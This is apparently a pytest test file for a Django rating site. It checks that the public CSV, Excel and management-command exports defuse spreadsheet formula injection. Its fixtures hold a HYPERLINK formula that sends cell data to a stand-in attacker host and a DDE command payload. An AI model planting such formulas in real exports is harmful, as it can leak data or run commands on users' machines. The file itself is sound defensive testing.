"""No export runs a stored text as a formula: the public CSV and Excel rating lists, export_ratings,
export_standings and the pre-filled result sheet all neutralise a leading =, +, -, @, tab or carriage return,
whatever the database already holds (names typed in the admin before the checks, or imported long ago)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from rules.spreadsheet import neutralised, runs_as_formula
from tests import factories as f
from tournaments.models import Standing

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Martin")'
CALC = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile():
    """A rated player whose names and club a spreadsheet would run, and one with an innocent name."""
    club = f.club("=1+2")
    player = f.player(HYPERLINK, CALC, club=club)
    f.rating(player, value=1500)
    innocent = f.player("Smith-Jones", "Ann")
    f.rating(innocent, value=1400)
    f.renumber_positions()
    return player


def _no_formula(values) -> None:
    for value in values:
        assert not (isinstance(value, str) and runs_as_formula(value)), value


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_text_that_would_run_gets_an_apostrophe(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["Martin", "Smith-Jones", "", 1500, -3, 2.5, None])
def test_other_values_pass_unchanged(value):
    assert neutralised(value) == value


def test_the_public_csv_neutralises_stored_names(client, hostile):
    response = client.get("/ratings/adlg/ratings.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    first = rows[1]
    assert first[2:5] == ["'" + HYPERLINK, "'" + CALC, "'=1+2"]
    assert rows[2][2] == "Smith-Jones"
    for row in rows[1:]:
        _no_formula(row)


def test_the_excel_rating_list_has_no_formula(client, hostile):
    response = client.get("/ratings/adlg/ratings.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert [cell.value for cell in sheet[2]][2:5] == ["'" + HYPERLINK, "'" + CALC, "'=1+2"]


def test_export_ratings_neutralises_stored_names(hostile):
    out = io.StringIO()
    call_command("export_ratings", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][1:3] == ["'" + HYPERLINK, "'" + CALC] and rows[1][4] == "'=1+2"
    for row in rows[1:]:
        _no_formula(row)


def test_export_ratings_as_json_keeps_the_data_as_it_is(hostile):
    import json

    out = io.StringIO()
    call_command("export_ratings", "--format", "json", stdout=out)
    assert json.loads(out.getvalue())[0]["last_name"] == HYPERLINK


def test_export_standings_neutralises_a_stored_pool(hostile):
    played = f.rated_tournament([hostile, *[f.player(f"P{n}") for n in range(3)]])
    Standing.objects.filter(tournament=played.tournament).update(pool="-B")
    out = io.StringIO()
    call_command("export_standings", str(played.tournament.pk), stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert {row[0] for row in rows[1:]} == {"'-B"}


def test_the_prefilled_template_writes_stored_names_as_text(client, hostile, referee):
    tournament = f.tournament("=SUM(1,2)")
    tournament.referees.add(referee)
    tournament.registrations.create(player=hostile, club=hostile.club)
    client.force_login(referee)
    response = client.get(reverse("referee:tournament_template", args=[tournament.pk]))
    workbook = load_workbook(io.BytesIO(response.content))
    players = workbook["Players"]
    values = [cell for row in players.iter_rows(min_row=2, max_row=2) for cell in row]
    assert [cell.value for cell in values][1:4] == ["'" + HYPERLINK, "'" + CALC, "'=1+2"]
    assert all(cell.data_type != "f" for cell in values)
    assert workbook["Tournament"]["B3"].value == "'=SUM(1,2)"
